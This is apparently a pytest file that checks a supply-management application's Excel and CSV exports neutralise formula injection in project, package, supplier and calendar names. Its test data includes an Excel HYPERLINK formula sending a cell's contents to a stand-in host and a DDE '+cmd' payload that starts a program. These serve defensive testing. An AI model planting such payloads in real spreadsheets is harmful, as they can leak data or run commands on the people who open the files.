"""Text from users is written to every export as text, never as a formula.

A project, a package and a supplier named like an Excel formula go through the ordinary paths
(a weekly run, the funding application, catalog and project exports in .xlsx and CSV, the
calendar file) and come out as string cells (xlsx) or with the OWASP apostrophe (CSV).
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlmodel import Session

from catalogs.importing import export_catalog, import_catalog
from catalogs.models import CatalogKind, Warehouse
from supply.calendar import YearArrangement, format_calendar_csv, parse_calendar_csv
from supply.packages.export import funding_application
from supply.packages.models import Package
from supply.projects.importing import export_projects
from supply.projects.models import Project
from supply.weekly.run import run_weekly
from tests.conftest import csv_bytes
from tests.weekly.world import (
    BEFORE_CUTOFF,
    CALENDAR,
    LOADED,
    POLICY,
    add_project,
    load_world,
    settings_for,
)

HOSTILE = '=HYPERLINK("http://x/?d="&A1,"点击")'
PACKAGE = "+cmd|' /C calc'!A0"


def xlsx_formulas(content: bytes) -> list[str]:
    """Every formula in a workbook's sheets, read from the XML itself."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            part.split("</f>")[0]
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for part in archive.read(name).decode().split("<f>")[1:]
        ]


def string_cells(content: bytes) -> set[str]:
    """The values of every string cell of a workbook."""
    book = load_workbook(io.BytesIO(content))
    return {
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "s" and cell.value is not None
    }


def assert_text_only(content: bytes, *texts: str) -> None:
    assert all(f.startswith("SUBTOTAL(109,") for f in xlsx_formulas(content))
    strings = string_cells(content)
    for text in texts:
        assert text in strings


def csv_cells(content: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]


@pytest.fixture
def world(session: Session) -> Session:
    load_world(session)
    session.add(
        Package(id="PK-X", name=PACKAGE, year=2026, kind="业扩配套", budget=1, updated_at=LOADED)
    )
    session.commit()
    for project_id, kind, lines in (
        ("P-X", "area_new", [("DT-400", 20), ("CB10-300", 400)]),
        ("P-Y", "lv_extension", [("MTR-1P", 5)]),
    ):
        project = add_project(
            session, project_id, kind=kind, approved=date(2026, 11, 26), location="huancui",
            lines=lines, voltage="0.4kV" if kind == "lv_extension" else "10kV",
        )  # fmt: skip
        project.name = HOSTILE
        project.package_id = "PK-X"
        session.add(project)
    session.commit()
    return session


def test_every_weekly_export_writes_user_text_as_text(world: Session, tmp_path: Path) -> None:
    # A warehouse whose name Excel refuses as a sheet name (the issue list has a sheet per
    # warehouse) must not stop the run.
    warehouse = world.get(Warehouse, "WH-WD")
    assert warehouse is not None
    warehouse.name = "文登[周转]库:*?/"
    world.add(warehouse)
    world.commit()
    outcome = run_weekly(
        engine=world.get_bind(),  # type: ignore[arg-type]
        at=BEFORE_CUTOFF,
        now=BEFORE_CUTOFF,
        user="物资部",
        calendar=CALENDAR,
        policy=POLICY,
        settings=settings_for(world, str(tmp_path / "runs")),
    )
    # The project's name is on the requirement plan, the issue list, the emergency list (the
    # 20 transformers are more than reserve and the agreement line hold) and the late list.
    for name in ("agreement_requirements", "issue_list", "emergency", "late_unmet"):
        assert_text_only(outcome.exports[name].read_bytes(), HOSTILE)
    assert "WH-WD 文登_周转_库____" in load_workbook(outcome.exports["issue_list"]).sheetnames
    for name in ("replenishment", "packages"):
        assert_text_only(outcome.exports[name].read_bytes())
    assert "PK-X" in string_cells(outcome.exports["packages"].read_bytes())


def test_the_funding_application_writes_the_package_name_as_text(world: Session) -> None:
    project = world.get(Project, "P-X")
    assert project is not None
    content, over = funding_application(session=world, today=date(2026, 11, 30))
    assert [f.package_id for f in over] == ["PK-X"]
    assert_text_only(content, PACKAGE, HOSTILE)


def test_catalog_exports_write_supplier_names_as_text(world: Session) -> None:
    rows = [
        ["供应商", "仓库编码", "物料编码", "寄存数量", "结算单价"],
        [HOSTILE, "WH-WD", "MTR-1P", 10, 190],
        ["@SUM(1+1)", "WH-CENTRAL", "MTR-1P", 3, 195],
    ]
    report = import_catalog(
        session=world,
        kind=CatalogKind.CONSIGNMENT,
        content=csv_bytes(rows),
        file_name="寄存.csv",
        imported_by="tester",
        now=LOADED,
    )
    assert report.rows == 2
    xlsx = export_catalog(session=world, kind=CatalogKind.CONSIGNMENT, fmt="xlsx")
    assert_text_only(xlsx, HOSTILE, "@SUM(1+1)")
    cells = csv_cells(export_catalog(session=world, kind=CatalogKind.CONSIGNMENT, fmt="csv"))
    assert "'" + HOSTILE in cells and "'@SUM(1+1)" in cells
    assert HOSTILE not in cells


def test_project_exports_write_project_names_as_text(world: Session) -> None:
    assert_text_only(export_projects(session=world), HOSTILE, PACKAGE)
    for sheet, text in (("projects", HOSTILE), ("packages", PACKAGE)):
        cells = csv_cells(export_projects(session=world, fmt="csv", sheet=sheet))  # type: ignore[arg-type]
        assert "'" + text in cells and text not in cells


def test_the_calendar_file_escapes_and_restores_day_names() -> None:
    arrangement = YearArrangement(
        year=2031, holidays={date(2031, 1, 1): "=1+1 元旦"}, workdays={}, source="t"
    )
    text = format_calendar_csv([arrangement])
    assert "'=1+1 元旦" in text
    [again] = parse_calendar_csv(text, source="2031.csv")
    assert again.holidays[date(2031, 1, 1)] == "=1+1 元旦"
